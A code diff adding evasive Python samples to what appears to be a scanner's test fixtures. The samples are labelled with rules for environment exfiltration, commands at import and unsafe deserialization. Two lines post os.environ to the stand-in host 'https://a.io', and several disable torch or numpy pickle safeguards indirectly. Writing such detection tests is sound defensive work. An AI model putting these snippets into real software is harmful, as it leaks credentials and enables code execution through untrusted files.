@@ -164,4 +164,45 @@ export const hiddenSiblings: readonly (readonly [way: string, rule: RuleId, code
     'environment-sent',
     'import urllib.request, os\nurllib.request.build_opener().open("https://a.io", str(os.environ).encode())',
   ],
+  [
+    'an environment in another mapping',
+    'environment-sent',
+    'import os, requests\nd = {"env": dict(os.environ)}\nrequests.post("https://a.io", json=d["env"])',
+  ],
+  [
+    'a part of the text of the environment',
+    'environment-sent',
+    'import os, requests\ntext = str(dict(os.environ))\nrequests.post("https://a.io", data=text[:99].encode())',
+  ],
+  [
+    'a class made of Popen',
+    'command-at-import',
+    'import subprocess\nclass P(subprocess.Popen):\n    pass\nP(["ls"])',
+  ],
+  [
+    'a class made of an unpickler',
+    'unsafe-deserializer',
+    'import pickle\nclass U(pickle.Unpickler):\n    pass\nU(open("a", "rb")).load()',
+  ],
+  [
+    'torch with weights_only in a variable',
+    'unsafe-deserializer',
+    'import torch\nW = False\ntorch.load("a", weights_only=W)',
+  ],
+  [
+    'torch with a dictionary of arguments',
+    'unsafe-deserializer',
+    'import torch\ntorch.load("a", **{"weights_only": False})',
+  ],
+  [
+    'torch in a partial function',
+    'unsafe-deserializer',
+    'import torch, functools\nload = functools.partial(torch.load, weights_only=False)',
+  ],
+  [
+    'torch with a pickle of its own',
+    'unsafe-deserializer',
+    'import torch, dill\ntorch.load("a", pickle_module=dill)',
+  ],
+  ['numpy by position', 'unsafe-deserializer', 'import numpy\nnumpy.load("a", None, True)'],
 ];
